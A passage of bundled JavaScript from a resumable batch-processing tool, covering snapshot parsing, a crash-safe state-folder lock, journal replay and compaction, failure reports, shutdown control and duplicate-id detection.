        throw new StateError(`${path}: empty; the snapshot is corrupt`);
    if (!ended)
        throw new StateError(`${path}: no end record; the snapshot is truncated`);
    if (!hasPass)
        state.adoptLegacyPass();
    return generation;
}
function applyHeader(r, state, fileBytes) {
    if (r.t !== "snapshot" || r.format !== SNAPSHOT_FORMAT)
        throw new SchemaViolation("not a resumable-batch state snapshot");
    if (r.version !== SNAPSHOT_VERSION) {
        throw new SchemaViolation(`state version ${String(r.version)} is not supported (this release reads versions 1 and ${SNAPSHOT_VERSION})`);
    }
    const generation = r.generation;
    if (typeof generation !== "number" || !Number.isSafeInteger(generation) || generation < 0)
        throw new SchemaViolation("bad generation");
    state.origin = checkOrigin(r.origin);
    // A hint, bounded by what the file can hold (an id takes at least 3 bytes: "a",).
    const doneCount = r.doneCount;
    if (typeof doneCount === "number" && Number.isSafeInteger(doneCount) && doneCount > 0)
        state.done.reserve(Math.min(doneCount, fileBytes / 3));
    return generation;
}
/** Remembers which entries a done line added: only when each of its ids made one (no repeat, no ill-formed id). */
function noteDoneEntries(lastDone, state, before, ids) {
    lastDone.from = before;
    lastDone.count = state.done.entryCount - before === ids ? ids : -1;
}
function applyRecord(r, state, seen, lastDone) {
    switch (r.t) {
        case "done": {
            const ids = r.ids;
            if (!Array.isArray(ids))
                throw new SchemaViolation("'ids' must be an array");
            const before = state.done.entryCount;
            for (const id of ids)
                state.done.add(checkId(id));
            seen.done += ids.length;
            noteDoneEntries(lastDone, state, before, ids.length);
            return;
        }
        case "fingerprints":
            applyFingerprintsLine(r, lastDone.from, lastDone.count, state);
            lastDone.count = -1;
            return;
        case "pass":
            state.passes.push(checkPassSummary(r));
            seen.passes++;
            return;
        case "versions":
            seen.versions += applyVersionsLine(r, state);
            return;
        case "failure": {
            const f = checkFailure(r);
            applyFailureFingerprint(r, f.id, state);
            state.failures.set(f.id, f);
            seen.failures++;
            return;
        }
        case "run":
            state.runs.push(checkRun(r));
            seen.runs++;
            return;
        default:
            throw new SchemaViolation(`unknown record type ${JSON.stringify(r.t) ?? "(none)"} (written by a newer release?)`);
    }
}
function checkEnd(r, seen) {
    for (const key of ["runs", "failures", "done", "passes", "versions"]) {
        // Snapshots written before passes count no passes or versions (and hold none).
        if (r[key] === undefined && (key === "passes" || key === "versions") && seen[key] === 0)
            continue;
        if (r[key] !== seen[key])
            throw new SchemaViolation(`the end record counts ${String(r[key])} ${key}, the snapshot holds ${seen[key]}; it is corrupt`);
    }
}

;// CONCATENATED MODULE: ./src/core/state/snapshot-v1.ts




/**
 * Reads a version-1 snapshot: one JSON object, `{…header…,"done":[…]}`, as releases before
 * version 2 wrote it. Kept so states saved by those releases (in a cache entry or an
 * artifact) still restore; the next compaction rewrites them as version 2. A version-1
 * file was built as one string, so it is below V8's string limit and may be read whole.
 */
function readSnapshotV1(path, state) {
    const bytes = (0,external_node_fs_.readFileSync)(path);
    const inParts = parseSnapshotInParts(bytes);
    let parsed = inParts?.header;
    if (inParts === undefined) {
        try {
            parsed = JSON.parse(bytes.toString("utf8"));
        }
        catch (error) {
            throw new StateError(`${path}: not readable JSON (${error.message}); the file is truncated or corrupt`);
        }
    }
    if (!isObject(parsed) || parsed.format !== SNAPSHOT_FORMAT)
        throw new StateError(`${path}: not a resumable-batch state snapshot`);
    if (parsed.version !== 1) {
        throw new StateError(`${path}: state version ${String(parsed.version)} is not supported (this release reads versions 1 and 2)`);
    }
    try {
        return applyV1(parsed, inParts?.done, state);
    }
    catch (error) {
        if (error instanceof SchemaViolation)
            throw new StateError(`${path}: ${error.message}`);
        throw error;
    }
}
function applyV1(s, doneInParts, state) {
    const generation = s.generation;
    if (typeof generation !== "number" || !Number.isSafeInteger(generation) || generation < 0)
        throw new SchemaViolation("bad generation");
    if (!(doneInParts !== undefined || Array.isArray(s.done)) || !Array.isArray(s.failures) || !Array.isArray(s.runs)) {
        throw new SchemaViolation("missing done, failures or runs");
    }
    state.origin = checkOrigin(s.origin);
    const parts = doneInParts ?? [s.done];
    state.done.reserve(parts.reduce((sum, ids) => sum + ids.length, 0));
    for (const ids of parts) {
        for (const id of ids)
            state.done.add(checkId(id));
    }
    for (const f of s.failures) {
        if (!isObject(f))
            throw new SchemaViolation("a failure record is not an object");
        const failure = checkFailure(f);
        state.failures.set(failure.id, failure);
    }
    for (const r of s.runs) {
        if (!isObject(r))
            throw new SchemaViolation("a run record is not an object");
        state.runs.push(checkRun(r));
    }
    // Version 1 was written before passes: pass 1.
    state.adoptLegacyPass();
    return generation;
}
/** How version 1 ends a snapshot: the done ids, last, as one array. */
const DONE_MEMBER = Buffer.from(',"done":[');
/** Between two done ids: the end of one string, a comma, the start of the next. */
const BETWEEN_IDS = Buffer.from('","');
const DONE_SLICE_BYTES = 256 * 1024;
/**
 * Parses a version-1 snapshot — `{…header…,"done":[…]}` — without a string of the whole
 * file or one array of every id. The header is parsed alone, the ids in slices of about
 * 256 KiB cut between two ids. Gives the same values as JSON.parse of the whole file, or
 * undefined (JSON.parse then decides, and words the error): a header that parses as an
 * object with a member means the whole is that object plus the done member (JSON.parse
 * keeps the last of duplicate keys), and each slice that parses is a run of the array's
 * elements, because a cut inside a string would leave that slice's last string open. The
 * cuts and ends are ASCII, so no UTF-8 sequence is split.
 */
function parseSnapshotInParts(bytes) {
    const member = bytes.lastIndexOf(DONE_MEMBER);
    if (member === -1)
        return undefined;
    let end = bytes.length;
    while (end > 0 && isJsonWhitespace(bytes[end - 1]))
        end--;
    const arrayEnd = end - 2; // the array's ']', then the object's '}'
    const elementsStart = member + DONE_MEMBER.length;
    if (arrayEnd < elementsStart || bytes[arrayEnd] !== 0x5d || bytes[arrayEnd + 1] !== 0x7d)
        return undefined;
    const header = parseOrUndefined(bytes.toString("utf8", 0, member) + "}");
    if (!isObject(header) || Object.keys(header).length === 0)
        return undefined;
    const done = [];
    for (let start = elementsStart; start < arrayEnd;) {
        let cut = arrayEnd;
        if (start + DONE_SLICE_BYTES < arrayEnd) {
            const between = bytes.indexOf(BETWEEN_IDS, start + DONE_SLICE_BYTES);
            if (between !== -1 && between < arrayEnd)
                cut = between + 1;
        }
        const ids = parseOrUndefined("[" + bytes.toString("utf8", start, cut) + "]");
        if (!Array.isArray(ids))
            return undefined;
        done.push(ids);
        start = cut + 1;
    }
    return { header, done };
}
function parseOrUndefined(text) {
    try {
        return JSON.parse(text);
    }
    catch {
        return undefined;
    }
}
function isJsonWhitespace(byte) {
    return byte === 0x20 || byte === 0x0a || byte === 0x0d || byte === 0x09;
}

;// CONCATENATED MODULE: ./src/core/state/state-lock.ts





const LOCK_FILE = "lock";
const realLockEnv = {
    self: () => ({
        pid: process.pid,
        host: (0,external_node_os_namespaceObject.hostname)(),
        startedAt: new Date().toISOString(),
        ...definedOnly({ procStart: procStartOf(process.pid), bootId: readBootId() }),
        nonce: (0,external_node_crypto_namespaceObject.randomBytes)(8).toString("hex"),
    }),
    probe(pid) {
        try {
            process.kill(pid, 0);
        }
        catch (error) {
            if (error.code !== "EPERM")
                return { alive: false };
        }
        return { alive: true, ...definedOnly({ procStart: procStartOf(pid) }) };
    },
    bootId: readBootId,
};
/**
 * An exclusive lock on the state folder, so two runs cannot interleave journals. The lock
 * is created exclusively (O_EXCL, which also never follows a symbolic link). A lock whose
 * holder is gone — a dead pid, a pid now used by another process (its start time differs),
 * another boot, another machine (restored from a cache) — is taken over, and the takeover
 * is arbitrated so exactly one of several runs starting together wins: a taker first
 * creates, exclusively, a claim file named after the stale lock's content; only the one
 * whose claim succeeded replaces the lock (rename, which replaces a link, never its
 * target), and only after checking that the lock is still the one it judged stale.
 */
function acquireLock(dir, env = realLockEnv) {
    (0,external_node_fs_.mkdirSync)(dir, { recursive: true });
    const path = (0,external_node_path_.join)(dir, LOCK_FILE);
    const me = env.self();
    const mine = JSON.stringify(me);
    if (createExclusive(path, mine))
        return lockHandle(path, me.nonce);
    const current = readLock(path);
    if (current === undefined) {
        // Released between our create and our read: try once more, as a fresh start.
        if (createExclusive(path, mine))
            return lockHandle(path, me.nonce);
        throw inUse(dir, readLock(path)?.holder);
    }
    if (current.holder && isHeld(current.holder, me, env))
        throw inUse(dir, current.holder);
    env.beforeClaim?.();
    const claim = (0,external_node_path_.join)(dir, `${LOCK_FILE}.takeover-${current.digest}`);
    if (!createExclusive(claim, mine)) {
        // Another run is taking this same stale lock over right now: it wins. A claim left by
        // a taker that died in the microseconds between claim and rename is removed, once.
        const claimer = readLock(claim)?.holder;
        if (claimer && isHeld(claimer, me, env))
            throw inUse(dir, claimer);
        (0,external_node_fs_.rmSync)(claim, { force: true });
        if (!createExclusive(claim, mine))
            throw inUse(dir, readLock(claim)?.holder);
    }
    try {
        env.beforeReplace?.();
        // Still the lock we judged? (It may have been taken over and released meanwhile.)
        if (readLock(path)?.digest !== current.digest)
            throw inUse(dir, readLock(path)?.holder);
        const tmp = `${path}.${me.nonce}.tmp`;
        if (!createExclusive(tmp, mine))
            throw new Error(`${tmp}: exists`);
        (0,external_node_fs_.renameSync)(tmp, path);
    }
    finally {
        (0,external_node_fs_.rmSync)(claim, { force: true });
    }
    const from = current.holder
        ? `pid ${current.holder.pid} on ${current.holder.host}`
        : current.symlink
            ? "a symbolic link (not followed)"
            : "an unreadable lock file";
    return { ...lockHandle(path, me.nonce), tookOverFrom: from };
}
function lockHandle(path, nonce) {
    return {
        release() {
            // Only our own lock: had it been taken over (wrongly judged stale), leave the other's.
            if (readLock(path)?.holder?.nonce === nonce)
                (0,external_node_fs_.rmSync)(path, { force: true });
        },
    };
}
/**
 * Whether the holder still runs: same host and boot, a live pid, the same process start.
 * A lock of our own pid is a leftover of this process (a run that did not release it).
 */
function isHeld(holder, me, env) {
    if (holder.host !== me.host || typeof holder.pid !== "number" || holder.pid === me.pid)
        return false;
    const bootId = env.bootId();
    if (holder.bootId !== undefined && bootId !== undefined && holder.bootId !== bootId)
        return false;
    const probe = env.probe(holder.pid);
    if (!probe.alive)
        return false;
    if (holder.procStart !== undefined && probe.procStart !== undefined && holder.procStart !== probe.procStart)
        return false;
    return true;
}
function inUse(dir, holder) {
    return new ConfigError(`state folder ${dir} is in use by another run (pid ${holder?.pid ?? "?"}); wait for it to finish, or use another --state-dir`);
}
/** Creates a file only when nothing (not even a dangling link) is at path; false when something is. */
function createExclusive(path, content) {
    let fd;
    try {
        fd = (0,external_node_fs_.openSync)(path, external_node_fs_.constants.O_WRONLY | external_node_fs_.constants.O_CREAT | external_node_fs_.constants.O_EXCL | external_node_fs_.constants.O_NOFOLLOW, 0o644);
    }
    catch (error) {
        if (error.code === "EEXIST")
            return false;
        throw error;
    }
    try {
        (0,external_node_fs_.writeSync)(fd, content);
    }
    finally {
        (0,external_node_fs_.closeSync)(fd);
    }
    return true;
}
/**
 * Who holds the folder's lock now, when a live process does (a run in progress); undefined
 * when there is no lock or its holder is gone. Reads only: status looks at a folder a run
 * may be using, and must not tell that run's state as "did not stop cleanly".
 */
function liveLockHolder(dir, env = realLockEnv) {
    const holder = readLock((0,external_node_path_.join)(dir, LOCK_FILE))?.holder;
    return holder && isHeld(holder, env.self(), env) ? holder : undefined;
}
/** Reads a lock without following a link; undefined when there is none. */
function readLock(path) {
    let content;
    let symlink = false;
    try {
        if ((0,external_node_fs_.lstatSync)(path).isSymbolicLink()) {
            symlink = true;
            content = "symlink:" + (0,external_node_fs_.readlinkSync)(path);
        }
        else {
            const fd = (0,external_node_fs_.openSync)(path, external_node_fs_.constants.O_RDONLY | external_node_fs_.constants.O_NOFOLLOW);
            try {
                content = (0,external_node_fs_.readFileSync)(fd, "utf8");
            }
            finally {
                (0,external_node_fs_.closeSync)(fd);
            }
        }
    }
    catch (error) {
        if (error.code === "ENOENT")
            return undefined;
        throw error;
    }
    const digest = (0,external_node_crypto_namespaceObject.createHash)("sha256").update(content).digest("hex").slice(0, 24);
    if (symlink)
        return { digest, symlink };
    let holder;
    try {
        const parsed = JSON.parse(content);
        if (typeof parsed === "object" && parsed !== null)
            holder = parsed;
    }
    catch {
        holder = undefined;
    }
    return { holder, digest, symlink };
}
/** Field 22 of /proc/<pid>/stat: when the process started, in clock ticks since boot. */
function procStartOf(pid) {
    try {
        const stat = (0,external_node_fs_.readFileSync)(`/proc/${pid}/stat`, "utf8");
        // The command name (field 2) is in parentheses and may hold spaces: count from its end.
        const fields = stat.slice(stat.lastIndexOf(")") + 2).split(" ");
        return fields[22 - 3];
    }
    catch {
        return undefined; // not Linux, or the process is gone
    }
}
function readBootId() {
    try {
        return (0,external_node_fs_.readFileSync)("/proc/sys/kernel/random/boot_id", "utf8").trim();
    }
    catch {
        return undefined;
    }
}
function definedOnly(o) {
    return Object.fromEntries(Object.entries(o).filter(([, v]) => v !== undefined));
}

;// CONCATENATED MODULE: ./src/core/state/state-store.ts









/**
 * The state folder:
 *   snapshot.json           compacted state of generation G (absent before the first compaction)
 *   journal-<G>.jsonl       records appended since snapshot G, one JSON object a line
 *   failures.json           the reviewable failures, regenerated from state
 *   lock                    present while a run uses the folder
 * A compaction writes snapshot G+1 (tmp + rename, atomic), then appends go to
 * journal-<G+1>.jsonl and journal-<G>.jsonl is deleted. A crash at any point leaves a
 * snapshot and the one journal that follows it, so nothing is lost or replayed twice.
 * No file is ever built or parsed as one string (snapshot-v2.ts, line-file.ts): a state
 * may grow past the largest string V8 can hold (about 512 MiB).
 */
const SNAPSHOT_FILE = "snapshot.json";
const FAILURES_FILE = "failures.json";
const JOURNAL_PATTERN = /^journal-(\d+)\.jsonl$/;
function journalFileName(generation) {
    return `journal-${generation}.jsonl`;
}
/** True when the folder holds a snapshot or a journal: something a run left. */
function stateExists(dir) {
    try {
        return (0,external_node_fs_.readdirSync)(dir).some((n) => n === SNAPSHOT_FILE || JOURNAL_PATTERN.test(n));
    }
    catch {
        return false;
    }
}
/**
 * Loads a folder a command only reads (status, failures, report): a folder that holds no
 * state is a mistake (a typo in --state-dir), never an empty result.
 */
function requireState(dir, setting = "--state-dir") {
    if (!stateExists(dir)) {
        throw new ConfigError(`no state in ${dir}: no ${SNAPSHOT_FILE} or journal there (check ${setting}; a run creates it)`);
    }
    return loadState(dir);
}
/**
 * Loads snapshot + journal, checking every record against the schema the engine relies on
 * (state-schema.ts). Read-only: nothing in the folder changes (status and failures may
 * look at a folder a run is using). Throws StateError when the folder cannot be trusted.
 */
function loadState(dir) {
    const state = new BatchState();
    const warnings = [];
    if (!(0,external_node_fs_.existsSync)(dir))
        return { state, generation: 0, journalBytes: 0, warnings };
    let generation = 0;
    const snapshotPath = (0,external_node_path_.join)(dir, SNAPSHOT_FILE);
    if ((0,external_node_fs_.existsSync)(snapshotPath))
        generation = readSnapshot(snapshotPath, state);
    for (const name of (0,external_node_fs_.readdirSync)(dir)) {
        const m = JOURNAL_PATTERN.exec(name);
        if (!m)
            continue;
        const g = Number(m[1]);
        if (g > generation) {
            throw new StateError(`${(0,external_node_path_.join)(dir, name)}: journal generation ${g} is newer than the snapshot's (${generation}); the state folder is inconsistent`);
        }
        // g < generation: already absorbed by the snapshot (a crash after compaction); the next compaction removes it.
    }
    const journalPath = (0,external_node_path_.join)(dir, journalFileName(generation));
    let journalBytes = 0;
    if ((0,external_node_fs_.existsSync)(journalPath)) {
        const replay = new JournalReplay(state, journalPath, warnings);
        journalBytes = forEachLine(journalPath, (line, n, terminated) => replay.line(line, n, terminated));
        replay.finish();
    }
    return { state, generation, journalBytes, warnings };
}
/** Reads a snapshot of either version: version 2 starts with its tagged header line. */
function readSnapshot(path, state) {
    const head = Buffer.alloc(SNAPSHOT_V2_PREFIX.length);
    const fd = (0,external_node_fs_.openSync)(path, "r");
    let n;
    try {
        n = (0,external_node_fs_.readSync)(fd, head, 0, head.length, 0);
    }
    finally {
        (0,external_node_fs_.closeSync)(fd);
    }
    if (n === head.length && head.toString("latin1") === SNAPSHOT_V2_PREFIX)
        return readSnapshotV2(path, state, fstatSize(path));
    return readSnapshotV1(path, state);
}
/**
 * Replays journal lines into state, one at a time. A last line without its newline is a
 * write torn by a kill: ignored. A line in the middle that is not JSON (a torn write that
 * a later run appended after) is skipped with a warning: the rest still counts. A line
 * that is JSON but not a valid record was not written by a run: the state is refused.
 */
class JournalReplay {
    state;
    where;
    warnings;
    applied = 0;
    badLines = [];
    constructor(state, where, warnings) {
        this.state = state;
        this.where = where;
        this.warnings = warnings;
    }
    line(text, lineNumber, terminated) {
        if (text.length === 0)
            return;
        let parsed;
        try {
            parsed = JSON.parse(text);
        }
        catch {
            parsed = undefined;
        }
        if (!isObject(parsed)) {
            if (!terminated)
                this.warnings.push(`${this.where}:${lineNumber}: ignored a torn last line (the previous run was killed mid-write)`);
            else
                this.badLines.push(lineNumber);
            return;
        }
        // The hot path: a done record needs no copy.
        if (parsed.t === "done" &&
            typeof parsed.id === "string" &&
            parsed.id !== "" &&
            parsed.f === undefined &&
            parsed.v === undefined &&
            this.state.versions.size === 0) {
            this.state.markDone(parsed.id);
            this.applied++;
            return;
        }
        let record;
        try {
            record = checkJournalRecord(parsed);
        }
        catch (error) {
            if (!(error instanceof SchemaViolation))
                throw error;
            if (!terminated) {
                this.warnings.push(`${this.where}:${lineNumber}: ignored a torn last line (the previous run was killed mid-write)`);
                return;
            }
            throw new StateError(`${this.where}:${lineNumber}: ${error.message}; the journal was not written by a run`);
        }
        this.state.apply(record);
        this.applied++;
    }
    finish() {
        const bad = this.badLines;
        if (bad.length > 0) {
            this.warnings.push(`${this.where}: skipped ${bad.length} unreadable line(s): ${bad.slice(0, 10).join(", ")}${bad.length > 10 ? ", …" : ""}`);
        }
    }
}
/** Replays journal text into state (for tests and small inputs; loadState streams the file). */
function replayJournalText(text, state, where, warnings) {
    const replay = new JournalReplay(state, where, warnings);
    let start = 0;
    let lineNumber = 0;
    while (start < text.length) {
        const nl = text.indexOf("\n", start);
        const end = nl === -1 ? text.length : nl;
        replay.line(text.slice(start, end), ++lineNumber, nl !== -1);
        start = end + 1;
    }
    replay.finish();
    return replay.applied;
}
/**
 * Writes state as snapshot generation+1 (version 2, streamed) and removes the journals it
 * absorbs. Returns the new generation; later appends go to journal-<new>.jsonl.
 */
function compactState(dir, state, generation, nowIso) {
    (0,external_node_fs_.mkdirSync)(dir, { recursive: true });
    const next = generation + 1;
    writeSnapshotV2((0,external_node_path_.join)(dir, SNAPSHOT_FILE), state, next, nowIso);
    for (const name of (0,external_node_fs_.readdirSync)(dir)) {
        const m = JOURNAL_PATTERN.exec(name);
        if (m && Number(m[1]) <= generation)
            (0,external_node_fs_.rmSync)((0,external_node_path_.join)(dir, name), { force: true });
    }
    return next;
}
/** Writes via a temp file, fsync and rename, so a reader sees the old file or the new one. */
function writeFileAtomic(path, text) {
    writeFileInPieces(path, (write) => write(text));
}
function fstatSize(path) {
    return (0,external_node_fs_.statSync)(path).size;
}

;// CONCATENATED MODULE: ./src/core/state/failures-file.ts




/** failures.json, regenerated from state: oldest failure first, with causes grouped. */
function buildFailuresFile(state) {
    // `raw` is the engine's copy for retries; failures.json keeps its public shape.
    const failures = [...state.failures.values()]
        .map(withoutRaw)
        .sort((a, b) => (a.firstFailedAt < b.firstFailedAt ? -1 : a.firstFailedAt > b.firstFailedAt ? 1 : a.id < b.id ? -1 : a.id > b.id ? 1 : 0));
    // Failures belong to their pass: a new pass starts with none.
    return { failures, groups: groupFailures(failures), pass: state.pass };
}
function writeFailuresFile(dir, state) {
    const file = buildFailuresFile(state);
    writeFileInPieces((0,external_node_path_.join)(dir, FAILURES_FILE), (write) => writeFailuresJson(file, write));
    return file;
}
/**
 * The text of JSON.stringify(file, null, 2) — the same bytes — a failure (and a group) at a
 * time: each failure carries its item, so thousands may add up to more than a string holds.
 */
function writeFailuresJson(file, write) {
    write("{");
    writeArrayMember("failures", file.failures, write);
    if (file.groups !== undefined) {
        write(",");
        writeArrayMember("groups", file.groups, write);
    }
    if (file.pass !== undefined)
        write(`,\n  "pass": ${JSON.stringify(file.pass)}`);
    write("\n}\n");
}
/** `\n  "name": [ … ]` with each element indented as JSON.stringify(…, null, 2) would. */
function writeArrayMember(name, elements, write) {
    write(`\n  "${name}": [`);
    // JSON.stringify escapes newlines inside strings, so every "\n" here is between tokens.
    elements.forEach((e, i) => write((i === 0 ? "\n    " : ",\n    ") + JSON.stringify(e, null, 2).replace(/\n/g, "\n    ")));
    write(elements.length === 0 ? "]" : "\n  ]");
}
function withoutRaw(f) {
    if (f.raw === undefined)
        return f;
    const { raw: _raw, ...rest } = f;
    return rest;
}

;// CONCATENATED MODULE: ./src/core/run/run-journal.ts







/** Compact at load when the journal replayed on top of the snapshot is larger than this. */
const COMPACT_AT_LOAD_BYTES = 4 * 1024 * 1024;
/** Loads the checkpoint (snapshot and journal) and compacts it first when the journal grew large. */
function loadCheckpoint(options) {
    const loaded = loadState(options.stateDir);
    for (const warning of loaded.warnings)
        options.log.warn(warning);
    let generation = loaded.generation;
    if (loaded.journalBytes > COMPACT_AT_LOAD_BYTES) {
        generation = asStateWrite(options.stateDir, () => compactState(options.stateDir, loaded.state, generation, isoNow(options.system)));
    }
    return { state: loaded.state, generation, warnings: [...loaded.warnings] };
}
/**
 * Opens the run's journal and writes its start record, flushed at once; when the run
 * started a new pass (already applied to the state in memory), its pass record first. A
 * journal write that fails later (a full disk) stops the run at once (`writes`): nothing
 * more can be recorded.
 */
function beginRun(options, checkpoint, mode, writes, passStarted) {
    const { state, generation } = checkpoint;
    const seq = state.origin.seq + 1;
    const path = (0,external_node_path_.join)(options.stateDir, journalFileName(generation));
    const journal = new JournalWriter(path, options.system, options.flushIntervalMs, undefined, writes.onError, options.journalFs);
    if (passStarted)
        journal.append(recordLine(passStarted));
    const start = {
        t: "start",
        seq,
        runId: options.runId,
        runAttempt: options.runAttempt,
        mode,
        at: isoNow(options.system),
        pass: state.pass,
        ...(options.repeatMs === undefined ? {} : { repeatMs: options.repeatMs }),
    };
    journal.append(recordLine(start));
    state.apply(start);
    journal.flush();
    if (journal.failure !== undefined)
        throw new StateWriteError(options.stateDir, journal.failure);
    return { mode, seq, state, generation, journal };
}
/**
 * Writes the end record and leaves the folder as the next run expects it: journal closed,
 * compacted into one snapshot, failures.json written.
 */
function endRun(options, run, totals) {
    const { state, journal } = run;
    const end = {
        t: "end",
        seq: run.seq,
        at: isoNow(options.system),
        succeeded: totals.succeeded,
        failed: totals.failed,
        stopReason: totals.stopReason,
        ...totals.source,
        ...(totals.changed ? { changed: totals.changed } : {}),
    };
    journal.append(recordLine(end));
    state.apply(end);
    journal.close();
    if (journal.failure !== undefined)
        throw new StateWriteError(options.stateDir, journal.failure);
    asStateWrite(options.stateDir, () => {
        // Compacting at every end keeps what travels to the next run one snapshot and no journal.
        compactState(options.stateDir, state, run.generation, isoNow(options.system));
        writeFailuresFile(options.stateDir, state);
    });
}
/**
 * Watches the run's appended files (the journal, the job log): the first write that fails
 * (a full disk) stops the run at once, since nothing more could be recorded.
 */
class StateWrites {
    log;
    stop;
    /** The first write error, once one happened. */
    failure;
    constructor(log, stop) {
        this.log = log;
        this.stop = stop;
    }
    onError = (error) => {
        if (this.failure !== undefined)
            return;
        this.failure = error;
        this.log.error(`cannot write the state folder: ${errorMessage(error)}; stopping now (in-flight items are stopped: they run again next time)`);
        this.stop.request("state-write", 0);
    };
}
/**
 * Ends a run whose state folder could not be written: the journal as written (whole lines
 * up to the failed write) is the consistent state; nothing is compacted over it.
 */
function abandonRun(options, run, failure) {
    run.journal.close();
    throw new StateWriteError(options.stateDir, failure ?? run.journal.failure);
}
/** Runs a write to the state folder; a file system error becomes a StateWriteError (exit 5). */
function asStateWrite(stateDir, write) {
    try {
        return write();
    }
    catch (error) {
        if (error instanceof ConfigError || error instanceof StateError || typeof error.code !== "string")
            throw error;
        throw new StateWriteError(stateDir, error);
    }
}

;// CONCATENATED MODULE: ./src/core/run/run-timers.ts
/** How often progress is reported when the adapter gives no interval. */
const DEFAULT_PROGRESS_INTERVAL_MS = 1000;
/**
 * Starts the run's two timers: the budget stop (when the reserve begins) and the progress
 * report. Returns a function that cancels both.
 */
function startRunTimers(options, startedAtMs, budget, stop, meter) {
    const cancelBudgetTimer = startBudgetTimer(options, startedAtMs, budget, stop);
    const cancelProgress = startProgressTimer(options, meter);
    return () => {
        cancelBudgetTimer?.();
        cancelProgress?.();
    };
}
function startBudgetTimer(options, startedAtMs, budget, stop) {
    if (budget.deadlineAtMs === undefined)
        return undefined;
    // New items stop when canStart() finds too little budget left for a typical one; what
    // is still in flight when the reserve begins is cut off then. (Stopping a whole grace
    // before that spent a budget shorter than grace + reserve on one item per lane.)
    const stopInMs = Math.max(0, budget.deadlineAtMs - options.reserveMs - startedAtMs);
    return options.system.setTimer(() => stop.request("budget", 0), stopInMs);
}
function startProgressTimer(options, meter) {
    const { onProgress, system } = options;
    if (!onProgress)
        return undefined;
    const intervalMs = options.progressIntervalMs ?? DEFAULT_PROGRESS_INTERVAL_MS;
    let cancel;
    const tick = () => {
        onProgress(meter.snapshot(system.nowMs()));
        cancel = system.setTimer(tick, intervalMs);
    };
    cancel = system.setTimer(tick, intervalMs);
    return () => cancel();
}

;// CONCATENATED MODULE: ./src/core/run/redo.ts
/**
 * Makes the listed done items pending for this run: they leave the done set in memory
 * only (the saved state still holds them until this run's journal says otherwise).
 * Returns the ids taken, to put back those the run did not reach (restoreUnreached).
 */
function takeRedoIds(state, ids, log) {
    const taken = new Set();
    const notDone = [];
    for (const id of ids) {
        if (state.done.delete(id))
            taken.add(id);
        else
            notDone.push(id);
    }
    log.info(`redo-ids: processing ${taken.size} done item(s) again with a new idempotency key`);
    if (notDone.length > 0) {
        log.warn(`redo-ids: ${notDone.length} id(s) are not done items, so there is nothing to redo (they run as usual if pending): ${notDone.slice(0, 5).join(", ")}${notDone.length > 5 ? ", …" : ""}`);
    }
    return taken;
}
/** Puts back into the done set the redo items this run stopped before reaching (a budget or signal stop). */
function restoreUnreached(state, taken) {
    if (taken.size === 0)
        return;
    const doneNow = new Set(state.doneThisRun);
    for (const id of taken)
        if (!doneNow.has(id) && !state.failures.has(id))
            state.done.add(id);
}

;// CONCATENATED MODULE: ./src/core/run/stop-controller.ts

/**
 * Two-step shutdown (as graphile-worker does): the first request is graceful — `soft`
 * aborts, so nothing new starts and backoff waits end, and in-flight items get graceMs
 * to finish; then `hard` aborts them. A second signal skips the grace.
 */
class StopController {
    system;
    soft = new AbortController();
    hard = new AbortController();
    reason;
    signal;
    cancelGrace;
    constructor(system) {
        this.system = system;
        // Every in-flight attempt and backoff wait listens on these: more than 10 at once is
        // the design (high --concurrency), not a leak, so Node must not warn that it is.
        (0,external_node_events_.setMaxListeners)(0, this.soft.signal, this.hard.signal);
    }
    request(reason, graceMs, signal) {
        if (this.soft.signal.aborted) {
            if (signal !== undefined) {
                this.signal ??= signal;
                this.abortHard();
            }
            return;
        }
        this.reason = reason;
        this.signal = signal;
        this.soft.abort();
        this.cancelGrace = this.system.setTimer(() => this.abortHard(), graceMs);
    }
    abortHard() {
        this.cancelGrace?.();
        if (!this.hard.signal.aborted)
            this.hard.abort();
    }
    /** Cancels the grace timer once nothing is in flight, so the process can exit at once. */
    dispose() {
        this.cancelGrace?.();
    }
}

;// CONCATENATED MODULE: ./src/core/input/hash-id.ts
/**
 * A 32-bit hash of an id: FNV-1a over UTF-16 code units, then a multiplicative mix so
 * that similar ids (item-0000001, item-0000002, …) spread evenly over the low bits.
 * Shards and the first pass's id index both use it; shard membership depends on it, so
 * it must never change.
 */
function hashId(id) {
    let h = 0x811c9dc5;
    for (let i = 0; i < id.length; i++) {
        h ^= id.charCodeAt(i);
        h = Math.imul(h, 0x01000193);
    }
    h ^= h >>> 16;
    h = Math.imul(h, 0x85ebca6b);
    h ^= h >>> 13;
    return h;
}

;// CONCATENATED MODULE: ./src/core/input/duplicate-finder.ts

/**
 * Finds the items whose id may repeat an earlier item's, without keeping the ids: each
 * item (numbered in source order from 0) is two 32-bit hashes of its id, in typed arrays. At the end the
 * entries are sorted by (first hash, order) — a native sort of one BigUint64Array — and
 * entries whose two hashes both match an earlier entry's are candidates. Matching hashes
 * almost always mean the same id, but not always, so the caller confirms each candidate
 * against the ids themselves (plan.ts reads those items again; with no duplicates, the
 * usual case, nothing is read again).
 *
 * A hash table of the ids cost about three times as much at a million ids: every insert
 * is a random access into a table larger than the CPU's caches, where appending here is
 * sequential and the sort is cache-friendly.
 */
class DuplicateFinder {
    /** Per entry one 64-bit key: first hash in the high word, entry number in the low word. */
    keys = new BigUint64Array(1 << 12);
    words = new Uint32Array(this.keys.buffer);
    second = new Int32Array(1 << 12);
    count = 0;
    get size() {
        return this.count;
    }
    /** Adds the next item's id (items are numbered in the order they are added, from 0). */
    add(id) {
        const entry = this.count;
        if (entry === this.second.length)
            this.grow();
        this.words[2 * entry + LOW] = entry;
        this.words[2 * entry + HIGH] = hashId(id) >>> 0;
        this.second[entry] = secondHash(id);
        this.count++;
    }
    /**
     * Groups of item numbers whose ids have equal hashes (two or more each, in source
     * order). Ends the finder: it sorts its entries in place.
     */
    candidateGroups() {
        const n = this.count;
        const keys = this.keys.subarray(0, n);
        keys.sort();
        const words = this.words;
        const groups = [];
        let runStart = 0;
        for (let i = 1; i <= n; i++) {
            if (i < n && words[2 * i + HIGH] === words[2 * runStart + HIGH])
                continue;
            if (i - runStart > 1)
                this.splitRun(runStart, i, groups);
            runStart = i;
        }
        return groups;
    }
    /** Within a run of equal first hashes (in file order), groups the entries by the second. */
    splitRun(start, end, groups) {
        const bySecond = new Map();
        for (let i = start; i < end; i++) {
            const entry = this.words[2 * i + LOW];
            const group = bySecond.get(this.second[entry]);
            if (group)
                group.push(entry);
            else
                bySecond.set(this.second[entry], [entry]);
        }
        for (const group of bySecond.values())
            if (group.length > 1)
                groups.push(group);
    }
    grow() {
